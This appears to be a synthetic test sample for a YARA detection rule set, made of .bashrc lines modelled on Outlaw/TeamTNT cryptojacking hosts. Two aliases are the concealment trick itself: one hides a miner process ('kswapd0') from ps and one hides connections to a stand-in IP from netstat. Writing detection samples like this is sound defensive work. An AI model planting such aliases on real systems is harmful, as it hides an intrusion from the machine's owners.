# ferret YARA test sample: synthetic .bashrc lines as described for Outlaw/TeamTNT hosts, never run
alias ls='ls --color=auto'
alias ps='ps | grep -v kswapd0 | grep -v .configrc'
alias netstat='netstat | grep -v 203.0.113.8'
